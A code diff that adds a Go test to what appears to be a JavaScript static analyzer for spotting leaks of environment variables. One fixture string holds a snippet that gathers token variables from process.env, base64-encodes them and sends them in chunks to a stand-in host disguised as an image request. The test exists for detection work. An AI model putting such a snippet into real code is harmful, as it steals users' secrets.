@@ -1786,6 +1786,23 @@ let later; later = collect(); upload(later);`
 	}
 }
 
+// The elements of what carries the environment, iterated, carry it too:
+// its encoded chunks sent one request each. Its names alone do not.
+func TestEnvChunksSent(t *testing.T) {
+	f := Analyze("x.js", []byte(`const e = process.env; const picked = {};
+for (const k of Object.keys(e)) if (/TOKEN/.test(k)) picked[k] = e[k];
+const parts = Buffer.from(JSON.stringify(picked)).toString("base64").match(/.{1,1500}/g) || [];
+parts.forEach((p, i) => require("https").get("https://c.example.invalid/b.gif?i=" + i + "&d=" + p));`), DefaultLimits())
+	if !slices.ContainsFunc(f.Env, func(e EnvRead) bool { return e.Name == "" && e.How == "sent:https.get" }) {
+		t.Errorf("chunks of the environment not seen sent: %+v", f.Env)
+	}
+	f = Analyze("x.js", []byte(`const names = Object.keys(process.env).filter((k) => k.startsWith("APP_"));
+names.forEach((k) => fetch("https://api.example.invalid/flags/" + k));`), DefaultLimits())
+	if slices.ContainsFunc(f.Env, func(e EnvRead) bool { return e.Name == "" && strings.HasPrefix(e.How, "sent:") }) {
+		t.Errorf("variable names taken for the environment's values: %+v", f.Env)
+	}
+}
+
 // Constant tables read without being changed fold: an array also used
 // by slice or join, a string alphabet indexed by numbers (in the first
 // pass too, so destructuring takes the result apart), and char codes
